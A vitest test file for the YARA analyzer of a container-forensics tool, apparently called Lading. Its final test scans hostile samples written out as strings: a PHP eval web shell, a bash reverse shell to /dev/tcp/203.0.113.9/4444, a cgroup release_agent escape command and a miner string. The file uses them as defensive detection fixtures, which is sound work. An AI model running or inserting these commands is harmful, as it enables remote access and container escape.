import { readFile } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import yara from '../../../../src/main/analyze/analyzers/yara';
import { compileYara } from '../../../../src/main/analyze/yara/engine';
import { tarOf } from '../formats/tar-kit';
import { analyze, byRule, cited, type Given, HOST } from '../kit';

const available = await compileYara('rule a { condition: true }').then(
  () => true,
  () => false,
);
const rules = (content: string): Given => ({
  collector: 'import.yara-rules',
  content,
  kind: 'text',
  target: { ...HOST, id: 'imported:r.yar', name: 'r.yar' },
});
const EXPORT: Given = {
  collector: 'container.export',
  kind: 'tar',
  content: tarOf([
    { name: 'tmp/a', body: 'xx EVIL yy' },
    { name: 'tmp/b', body: 'xx EVIL yy' },
    { name: 'tmp/c', body: 'harmless' },
  ]),
};
const RULE =
  'rule other { condition: false }\nrule evil : T1105 {\n meta: severity = "high" description = "a test\u001b[1m"\n strings: $e = "EVIL"\n condition: $e }\n';

describe.skipIf(!available)('YARA rules', () => {
  it('match files of a container, with the bytes of each string and the rule cited', async () => {
    const given = [EXPORT, rules(RULE)];
    const found = byRule(await analyze(given, [yara]), 'yara.match');
    expect(found.map(({ claim }) => claim.split(',')[0]).sort()).toEqual(['/tmp/a', '/tmp/b']);
    for (const finding of found) {
      expect(finding).toMatchObject({ severity: 'high', techniques: ['T1105'] });
      expect(finding.claim).not.toContain('\u001b');
      const places = await cited(given, finding);
      expect(places).toContain('EVIL');
      expect(places).toContain('rule evil');
    }
  });

  it('match what was taken of a deleted file', async () => {
    const deleted: Given = { collector: 'container.open-deleted', content: 'EVIL', kind: 'binary' };
    expect(byRule(await analyze([deleted, rules(RULE)], [yara]), 'yara.match')).toHaveLength(1);
  });

  it('that do not compile are said, and others are applied', async () => {
    const result = await analyze([EXPORT, rules('rule {'), rules(RULE)], [yara]);
    expect(byRule(result, 'yara.match')).toHaveLength(2);
    expect(result.unreadable).toHaveLength(1);
    expect(result.unreadable[0]?.reason).toContain('do not compile');
  });

  it('cannot include a file of the examiner’s machine', async () => {
    await expect(compileYara('include "/etc/passwd"')).rejects.toMatchObject({ code: 'BAD_INPUT' });
    const { unreadable } = await analyze([EXPORT, rules('include "/etc/passwd"')], [yara]);
    expect(JSON.stringify(unreadable)).not.toContain('root:');
  });

  it('of Lading’s own set compile and tell harm from what is none', async () => {
    const own = await compileYara(
      await readFile(new URL('../../../../resources/yara/lading.yar', import.meta.url), 'utf8'),
    );
    const names = (text: string | Buffer) => own.scan(Buffer.from(text)).map(({ rule }) => rule);
    expect(names("<?php @eval(base64_decode($_POST['x'])); ?>")).toEqual(['Lading_Web_Shell_PHP']);
    expect(names('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')).toEqual(['Lading_Reverse_Shell_Script']);
    expect(names('echo 1 > x/notify_on_release; echo /cmd > /tmp/c/release_agent')).toEqual(['Lading_Escape_Script']);
    const elf = (text: string) => Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.from(text)]);
    expect(names(elf('stratum+tcp://pool --donate-level'))).toEqual(['Lading_Miner_Program']);
    for (const harmless of ['<?php echo $_GET["page"]; ?>', '#!/bin/bash\necho hello > /dev/null\n', elf('hello'), ''])
      expect(names(harmless)).toEqual([]);
  });
});
